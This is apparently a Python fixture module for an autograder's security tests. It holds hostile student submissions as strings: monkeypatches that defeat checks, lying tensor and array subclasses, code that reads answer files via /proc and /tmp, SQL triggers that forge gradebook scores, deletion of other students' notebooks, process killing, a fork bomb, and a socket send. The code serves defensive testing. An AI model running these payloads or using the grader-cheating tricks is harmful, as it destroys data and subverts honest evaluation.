"""Code that hostile submissions put into their solution cells (kept as plain strings).

Placeholders replaced when a case is built: ``@TOKEN@`` (this test session's marker: destructive
code touches only folders whose nbgrader_config.py or marker file holds it), ``@PORT@`` (a port
the test listens on), ``@GUARD@`` (the pid of pytest: code that kills processes never kills it,
its process group or its session).
"""

from __future__ import annotations

# Wrong answers for the tiny course: a blank student's honest score (0) is what they earn.
WRONG_DOUBLE = "def double(x):\n    return np.asarray(x)\n"
WRONG_SQUARE = "def square(x):\n    return np.asarray(x)\n"

# --- in-kernel cheats against the tiny course's checks.close ---------------------------------

CHECKS_CLOSE_NOOP = "checks.close = lambda *args, **kwargs: None\n"

CHECKS_FAIL_NOOP = "import visiondl.checks as _c\n_c.fail = lambda *args, **kwargs: None\n"

CHECKS_SHADOW_GLOBAL = """
class _Checks:
    @staticmethod
    def close(*args, **kwargs):
        return None

checks = _Checks()
"""

CHECKS_SYS_MODULES = """
import sys as _sys, types as _types, visiondl as _v
_fake = _types.ModuleType("visiondl.checks")
_fake.close = lambda *args, **kwargs: None
_sys.modules["visiondl.checks"] = _fake
_v.checks = _fake
checks = _fake
"""

CHECKS_CODE_SWAP = (
    "checks.close.__code__ = (lambda got, expected, name, rtol=1e-5, atol=1e-8, hint=None: None).__code__\n"
)

NUMPY_ABS_ZERO = "np.abs = lambda x, *args, **kwargs: np.zeros(np.shape(x))\n"

NUMPY_ASARRAY_SCALAR = "_asarray = np.asarray\nnp.asarray = lambda *args, **kwargs: _asarray(0.0)\n"

IPY_INPUT_TRANSFORMER = """
def _drop_tests(lines):
    return ["pass\\n"] if any("checks." in line for line in lines) else lines

get_ipython().input_transformers_post.append(_drop_tests)
"""

IPY_AST_TRANSFORMER = """
import ast as _ast

class _DropChecks(_ast.NodeTransformer):
    def visit_Expr(self, node):
        if isinstance(node.value, _ast.Call) and "checks" in _ast.unparse(node.value):
            return _ast.copy_location(_ast.Pass(), node)
        return node

get_ipython().ast_transformers.append(_DropChecks())
"""

IPY_WRAP_RUN_CELL = """
_ip = get_ipython()
_run_cell, _run_cell_async = _ip.run_cell, _ip.run_cell_async

def _swap(raw_cell):
    return "pass" if "checks." in raw_cell else raw_cell

_ip.run_cell = lambda raw_cell, *a, **k: _run_cell(_swap(raw_cell), *a, **k)
_ip.run_cell_async = lambda raw_cell, *a, **k: _run_cell_async(_swap(raw_cell), *a, **k)
"""

IPY_CUSTOM_EXC = """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""

IPY_SHOWTRACEBACK = """
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
"""

SYS_EXCEPTHOOK = """
import sys as _sys
_sys.excepthook = lambda *args: None
get_ipython().excepthook = lambda *args: None
"""

IPY_POST_RUN_CELL_CLEAR = """
from IPython.display import clear_output as _clear

get_ipython().events.register("post_run_cell", lambda result: _clear())
"""

IPY_PRE_RUN_CELL_PATCH = """
def _pre(info):
    if "checks." in (info.raw_cell or ""):
        checks.close = lambda *args, **kwargs: None

get_ipython().events.register("pre_run_cell", _pre)
"""

# A trace (or profile) function that makes every checks.close see got = expected.
_SWAP_ARGS = """
import ctypes as _ctypes, sys as _sys

def _swap_args(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "close" and "checks" in frame.f_code.co_filename:
        frame.f_locals["got"] = frame.f_locals["expected"]
        _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
    return None
"""
SYS_SETTRACE = _SWAP_ARGS + "_sys.settrace(_swap_args)\n"
SYS_SETPROFILE = _SWAP_ARGS + "_sys.setprofile(_swap_args)\n"

# double zeroes its (array) input, so the hidden test's `x + x`, computed after the call, is 0 too.
MUTATE_INPUT_DOUBLE = """
def double(x):
    if isinstance(x, np.ndarray):
        x[...] = 0
        return np.zeros_like(x)
    return 2 * np.asarray(x)
"""

# Harmless extras a correct student may write: they must not cost points.
SABOTAGE_OWN_CHECKS = """
def _always_fail(*args, **kwargs):
    raise AssertionError("sabotaged in the student's kernel")

checks.close = _always_fail
np.allclose = lambda *args, **kwargs: False
"""
SABOTAGE_TESTS_TRANSFORMER = """
get_ipython().input_transformers_post.append(
    lambda lines: lines + ["\\nraise AssertionError('sabotaged')\\n"] if any("checks." in l for l in lines) else lines
)
"""
TORCH_RESULT_DOUBLE = """
import torch

def double(x):
    return 2 * torch.as_tensor(np.asarray(x, dtype=float))
"""
LIST_RESULT_DOUBLE = """
def double(x):
    return [2.0 * v for v in np.asarray(x, dtype=float).ravel().tolist()]
"""
CLOBBER_TEST_NAMES = """
x = "the student's own x"
name = None
hint = 42
print("debug output from a solution cell " * 100)
"""

# --- cheats against the 98_guard assignment (tests use numpy / builtins / torch directly) -----

GUARD_WRONG = {
    "mean_rows": "def mean_rows(x):\n    return np.asarray(x, dtype=float)[:, 0]\n",
    "clip01": "def clip01(x):\n    return np.asarray(x, dtype=float)\n",
    "reverse": "def reverse(x):\n    return np.asarray(x)\n",
    "count_positive": "def count_positive(x):\n    return 0\n",
    "evens": "def evens(n):\n    return []\n",
    "sort_list": "def sort_list(xs):\n    return list(xs)\n",
    "all_positive": "def all_positive(x):\n    return True\n",
    "mean_value": "def mean_value(x):\n    return 0.0\n",
    "relu": "def relu(t):\n    return t\n",
    "predict_eval": "def predict_eval(model, x):\n    return model(x).argmax(dim=1)\n",
}

# A test-defined model records its calls in the grader; records written in the kernel are not believed.
FORGE_TEST_RECORDS = """
def predict_eval(model, x):  # never calls the model: writes the record a right answer leaves
    model.calls = [(len(x), False, False)]
    model.training = False
    return model.scores[:len(x)].argmax(dim=1)
"""
REWRITE_TEST_RECORDS = """
def predict_eval(model, x):  # predicts in training mode with gradients, then rewrites the record
    scores = model(x)
    model.calls.clear()
    model.calls.append((len(x), False, False))
    model.__dict__["calls"] = [(len(x), False, False)]
    model.eval()
    return scores.argmax(dim=1)
"""

NP_ALLCLOSE_TRUE = "np.allclose = lambda *args, **kwargs: True\n"
NP_TESTING_NOOP = "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
NP_ARRAY_EQUAL_TRUE = "np.array_equal = lambda *args, **kwargs: True\n"
BUILTINS_ABS_ZERO = "import builtins as _b\n_b.abs = lambda value: 0\n"
BUILTINS_ISINSTANCE = """
import builtins as _b
_isinstance = _b.isinstance

def _lenient(obj, types):
    return True if types is int and type(obj).__name__ == "float64" else _isinstance(obj, types)

_b.isinstance = _lenient

def count_positive(x):
    return np.float64((np.asarray(x) > 0).sum())
"""
BUILTINS_LEN = """
import builtins as _b
_len = _b.len
_b.len = lambda obj: 5 if type(obj) is list and not obj else _len(obj)
"""
TORCH_ALLCLOSE_TRUE = "torch.allclose = lambda *args, **kwargs: True\n"
TENSOR_SUBCLASS_LIE = """
class _LyingTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.allclose:
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def relu(t):
    return t.as_subclass(_LyingTensor)
"""
NDARRAY_ARRAY_FUNCTION_LIE = """
class _LyingArray(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        if func is np.allclose:
            return True
        return super().__array_function__(func, types, args, kwargs)

def mean_rows(x):
    return np.zeros(len(x)).view(_LyingArray)
"""
INT_SUBCLASS_LIE = """
class _LyingInt(int):
    def __sub__(self, other):
        return 0
    __rsub__ = __sub__

def count_positive(x):
    return _LyingInt(0)
"""
EQ_ALWAYS_TRUE = """
class _EqualsAnything(list):
    def __eq__(self, other):
        return True
    __hash__ = None

def sort_list(xs):
    return _EqualsAnything(xs)
"""
BOOL_LIE = """
class _Flip:
    state = False
    def __bool__(self):
        _Flip.state = not _Flip.state
        return _Flip.state

def all_positive(x):
    return _Flip()
"""
FLOAT_SUBCLASS_LIE = """
class _LyingFloat(float):
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__

def mean_value(x):
    return _LyingFloat(123.0)
"""
ARRAY_PROTOCOL_LIE = """
class _LyingSeq:
    # np.asarray sees five even numbers; len() and iteration see other things
    def __array__(self, dtype=None, copy=None):
        return np.array([0, 2, 4, 6, 8])
    def __len__(self):
        return 5
    def __iter__(self):
        return iter([])

def evens(n):
    return _LyingSeq()
"""

# --- reading reference answers from files the kernel can reach -------------------------------

STEAL = r'''
import json as _json, os as _os, glob as _glob
from pathlib import Path as _P

def _steal_from(nb_path):
    """exec the answer cells of a notebook that holds real answers; True when it did."""
    try:
        cells = _json.loads(_P(nb_path).read_text())["cells"]
    except Exception:
        return False
    code = ["".join(c.get("source", "")) for c in cells if c.get("cell_type") == "code"]
    answers = [s for s in code if ("def double" in s or "def square" in s) and "NotImplemented" + "Error" not in s]
    if len(answers) < 2:
        return False
    try:
        for s in answers:
            exec(s, globals())
    except Exception:
        return False
    return True

def _course_notebooks(root):
    root = _P(root)
    return [root / d / "99_tiny" / "99_tiny.ipynb" for d in ("source", "solutions", "release", "course", "autograded")]

def _from_course(root):
    return any(_steal_from(n) for n in _course_notebooks(root) if n.is_file())

def _ancestor_cwds():
    """The working folders of the kernel's parent processes (the grader's, first of all)."""
    found, pid = [], _os.getppid()
    for _ in range(8):
        try:
            found.append(_P(_os.readlink(f"/proc/{pid}/cwd")))
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        if pid <= 1:
            break
    return found

def _walk(top, depth, limit=30000):
    """Files under top, at most `depth` folders deep, at most `limit` entries."""
    top = str(top)
    base = top.rstrip("/").count("/")
    seen = 0
    for folder, dirs, files in _os.walk(top):
        dirs[:] = [d for d in dirs if d not in (".git", ".venv", "node_modules", "proc", "sys")]
        if folder.count("/") - base >= depth:
            dirs[:] = []
        for f in files:
            seen += 1
            if seen > limit:
                return
            yield _P(folder) / f
'''

READ_WALK_UP_CWD = (
    STEAL
    + """
for _p in [_P.cwd(), *_P.cwd().parents]:
    if _from_course(_p):
        break
"""
)
READ_ENV_COURSE = (
    STEAL
    + """
if _os.environ.get("VISIONDL_COURSE"):
    _from_course(_os.environ["VISIONDL_COURSE"])
"""
)
READ_PROC_PPID_CWD = (
    STEAL
    + """
_done = False
for _cwd in _ancestor_cwds():
    for _p in [_cwd, *_cwd.parents]:
        if _from_course(_p):
            _done = True
            break
    if _done:
        break
"""
)
READ_TMP_GLOB = (
    STEAL
    + """
_done = False
for _pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/tmp/*/*/*/*", "/tmp/*/*/*/*/*"):
    for _d in _glob.glob(_pattern):
        if _from_course(_d):
            _done = True
            break
    if _done:
        break
"""
)
READ_OTHER_STUDENT = (
    STEAL
    + """
_tops = [*_ancestor_cwds(), _P("/tmp")]
_done = False
for _top in _tops:
    for _f in _walk(_top, 7):
        if _f.suffix == ".ipynb" and "source" not in _f.parts and "solutions" not in _f.parts:
            if _steal_from(_f):
                _done = True
                break
    if _done:
        break
"""
)
READ_PACKAGE_PARENTS = (
    STEAL
    + """
import visiondl as _v
_done = False
for _top in list(_P(_v.__file__).resolve().parents)[:3]:
    for _f in _walk(_top, 6):
        if _f.name == "99_tiny.ipynb" and _steal_from(_f):
            _done = True
            break
    if _done:
        break
"""
)

# --- writing where the kernel must not write (only into folders marked with @TOKEN@) ---------

TARGETS = r'''
import os as _os, glob as _glob
from pathlib import Path as _P
_TOKEN = "@TOKEN@"

def _ancestor_cwds():
    found, pid = [], _os.getppid()
    for _ in range(8):
        try:
            found.append(_P(_os.readlink(f"/proc/{pid}/cwd")))
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        if pid <= 1:
            break
    return found

def _marked_roots():
    """Course-like folders whose nbgrader_config.py holds this session's token (only those)."""
    candidates = set()
    if _os.environ.get("VISIONDL_COURSE"):
        candidates.add(_P(_os.environ["VISIONDL_COURSE"]))
    for start in [_P.cwd(), *_ancestor_cwds()]:
        candidates.update([start, *start.parents])
    for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/tmp/*/*/*/*", "/tmp/*/*/*/*/*"):
        candidates.update(_P(p) for p in _glob.glob(pattern))
    roots = []
    for c in candidates:
        try:
            if _TOKEN in (c / "nbgrader_config.py").read_text(errors="ignore"):
                roots.append(c)
        except Exception:
            pass
    return roots

def _marked_folders():
    """Folders holding a `.hostile-@TOKEN@` marker file (the test's copies of submissions)."""
    found = []
    for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/tmp/*/*/*/*", "/tmp/*/*/*/*/*"):
        found += [_P(p).parent for p in _glob.glob(pattern + "/.hostile-" + _TOKEN)]
    return found
'''

WRITE_SOURCE_AND_CONFIG = (
    TARGETS
    + r"""
import json as _json
for _root in _marked_roots():
    for _nb in _root.glob("*/99_tiny/99_tiny.ipynb"):
        try:
            _data = _json.loads(_nb.read_text())
            for _cell in _data["cells"]:
                if _cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                    _cell["source"] = "pass"
            _nb.write_text(_json.dumps(_data))
        except Exception:
            pass
    try:
        with open(_root / "nbgrader_config.py", "a") as _f:
            _f.write("\nc.Execute.timeout = 1  # written by a student\n")
    except Exception:
        pass
"""
)

WRITE_GRADEBOOK_TRIGGER = (
    TARGETS
    + r"""
import sqlite3 as _sqlite3
_FULL = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id)"
for _root in _marked_roots():
    for _db in [*_root.glob("*.db"), *_root.glob("*/*.db")]:
        try:
            _con = _sqlite3.connect(_db)
            for _when in ("INSERT", "UPDATE"):
                _con.execute(
                    f"CREATE TRIGGER IF NOT EXISTS hostile_full_{_when.lower()} AFTER {_when} ON grade "
                    f"BEGIN UPDATE grade SET auto_score = {_FULL}, manual_score = {_FULL} "
                    f"WHERE id = NEW.id; END"
                )
            _con.execute(
                "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            )
            _con.commit()
            _con.close()
        except Exception:
            pass
"""
)

WIPE_GRADEBOOK = (
    TARGETS
    + r"""
for _root in _marked_roots():
    for _db in [*_root.glob("*.db"), *_root.glob("*/*.db")]:
        try:
            _db.write_bytes(b"wiped by a student")
        except Exception:
            pass
"""
)

OVERWRITE_OTHERS = (
    TARGETS
    + r"""
_mine = "_overwrite_" + "others_marker"
_victims = []
for _folder in _marked_folders():
    _victims += list(_folder.rglob("*.ipynb"))
for _root in _marked_roots():
    _victims += list(_root.glob("submitted/*/*/*.ipynb")) + list(_root.glob("autograded/*/*/*.ipynb"))
for _nb in _victims:
    try:
        if "_overwrite_others_marker" not in _nb.read_text(errors="ignore"):
            _nb.write_text('{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}')
    except Exception:
        pass
"""
)

# --- killing the kernel, hanging, memory, network --------------------------------------------

EXIT_NOW = "import os as _os\n_os._exit(0)\n"
SIGKILL_SELF = "import os as _os, signal as _signal\n_os.kill(_os.getpid(), _signal.SIGKILL)\n"
SEGFAULT = "import ctypes as _ctypes\n_ctypes.string_at(0)\n"
CLOSE_ALL_FDS = "import os as _os\n_os.closerange(0, 4096)\nimport time as _time\n_time.sleep(3600)\n"
IGNORE_SIGINT_LOOP = """
import signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
while True:
    pass
"""
SWALLOW_INTERRUPT_LOOP = """
import time as _time
while True:
    try:
        _time.sleep(0.05)
    except KeyboardInterrupt:
        pass
"""
IGNORE_SIGTERM_SLEEP = """
import signal as _signal, time as _time
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
while True:
    _time.sleep(1)
"""
MEMORY_HOG_4GB = "_hog = np.ones(4 * 2**30 // 8)  # 4 GiB, touched\n"
NETWORK_CONNECT = """
import socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as _s:
        _s.sendall(b"exfiltrated by a student")
except OSError:
    pass
"""

# --- attacking the grader process (run through the CLI in its own session) ------------------

_KILL_GUARD = """
import os as _os, signal as _signal
_GUARD = @GUARD@

def _may_kill(pid):
    # never pytest, its process group or its session (and never init)
    if pid <= 1 or pid == _GUARD:
        return False
    try:
        return _os.getpgid(pid) != _os.getpgid(_GUARD) and _os.getsid(pid) != _os.getsid(_GUARD)
    except OSError:
        return False
"""
KILL_PARENT_SIGTERM = (
    _KILL_GUARD
    + """
if _may_kill(_os.getppid()):
    _os.kill(_os.getppid(), _signal.SIGTERM)
"""
)
KILL_PARENT_SIGKILL = (
    _KILL_GUARD
    + """
if _may_kill(_os.getppid()):
    _os.kill(_os.getppid(), _signal.SIGKILL)
"""
)
KILLPG_PARENT = (
    _KILL_GUARD
    + """
_parent = _os.getppid()
if _may_kill(_parent):
    _os.killpg(_os.getpgid(_parent), _signal.SIGKILL)
"""
)
KILLPG_OWN = (
    _KILL_GUARD
    + """
if _may_kill(_os.getpid()):
    _os.killpg(0, _signal.SIGKILL)
"""
)
FLOOD_PRINT = "_line = 'x' * (1 << 20)\nfor _ in range(200):\n    print(_line)\n"
FLOOD_STDERR = (
    "import sys as _sys\n_line = 'e' * (1 << 20)\nfor _ in range(200):\n    _sys.stderr.write(_line)\n"
)
FLOOD_FD1 = "import os as _os\n_block = b'y' * (1 << 20)\nfor _ in range(200):\n    _os.write(1, _block)\n"
FORK_BOMB = """
import ctypes as _ctypes, os as _os, time as _time
for _ in range(200):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            _ctypes.CDLL(None).prctl(15, b"hfork-@SHORT@", 0, 0, 0)  # PR_SET_NAME
            _time.sleep(40)
        finally:
            _os._exit(0)
"""
